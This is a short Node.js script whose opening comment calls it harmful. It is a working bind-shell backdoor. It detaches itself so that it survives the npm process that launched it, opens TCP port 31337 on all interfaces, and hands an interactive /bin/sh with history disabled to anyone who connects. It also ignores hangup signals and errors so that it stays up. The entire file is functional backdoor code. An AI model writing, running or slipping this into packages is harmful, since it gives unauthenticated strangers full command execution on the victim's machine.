// Harmful: opens a bind shell on TCP port 31337 on all interfaces, giving anyone who connects a /bin/sh; re-launches itself detached first.
const net = require('net');
const { spawn } = require('child_process');

if (process.argv[2] !== 'child') {
  // keep running after the parent npm process exits
  spawn(process.execPath, [__filename, 'child'], { detached: true, stdio: 'ignore' }).unref();
  process.exit(0);
}

const server = net.createServer((sock) => {
  const sh = spawn('/bin/sh', ['-i'], { env: { ...process.env, HISTFILE: '/dev/null' } });
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
  sh.on('exit', () => sock.destroy());
  sock.on('error', () => sh.kill());
});

process.on('SIGHUP', () => {});
server.on('error', () => {});
server.listen(31337, '0.0.0.0');
